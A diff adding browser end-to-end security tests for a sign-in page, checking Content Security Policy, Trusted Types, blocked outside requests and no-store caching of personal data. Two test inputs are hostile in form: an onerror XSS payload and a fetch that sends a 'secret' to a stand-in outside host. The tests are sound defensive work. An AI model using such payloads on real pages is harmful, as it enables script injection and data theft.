@@ -1,0 +1,59 @@
+import { apiPaths } from '#shared/api-paths';
+import { signIn } from './screens.ts';
+import { expect, test } from './test.ts';
+
+test('the page takes no script from a text', async ({ page, complaints }) => {
+  await page.goto('/sign-in');
+
+  const attempt = page.evaluate(() => {
+    document.body.innerHTML = '<img src="x" onerror="document.title = 1">';
+  });
+
+  await expect(attempt).rejects.toThrow('TrustedHTML');
+  await expectViolation(complaints, 'require-trusted-types-for');
+});
+
+test('the page takes no style without its nonce', async ({ page, complaints }) => {
+  await page.goto('/sign-in');
+
+  await page.evaluate(() => {
+    const style = document.createElement('style');
+    style.append('body { display: none }');
+    document.head.append(style);
+  });
+
+  await expectViolation(complaints, 'style-src-elem');
+  await expect(page.getByRole('heading')).toBeVisible();
+});
+
+test('the page sends nothing elsewhere', async ({ page, complaints }) => {
+  await page.goto('/sign-in');
+
+  const attempt = page.evaluate(() => fetch('https://elsewhere.example/?secret'));
+
+  await expect(attempt).rejects.toThrow();
+  await expectViolation(complaints, 'connect-src');
+});
+
+test('the page loads nothing from elsewhere', async ({ page, account, system }) => {
+  const origins = new Set<string>();
+  page.on('request', (request) => origins.add(new URL(request.url()).origin));
+
+  await signIn(page, account);
+
+  expect([...origins]).toEqual([system.url]);
+});
+
+test('answers with personal data are kept by no cache', async ({ page, account }) => {
+  const answer = page.waitForResponse((response) => response.url().endsWith(apiPaths.me));
+
+  await signIn(page, account);
+
+  expect((await answer).headers()).toMatchObject({ 'cache-control': 'no-store' });
+});
+
+/** Expects that the pages complained of a violation, and takes the complaint out. */
+async function expectViolation(complaints: string[], directive: string): Promise<void> {
+  await expect.poll(() => complaints.join()).toContain(`content security policy: ${directive}`);
+  complaints.splice(0);
+}
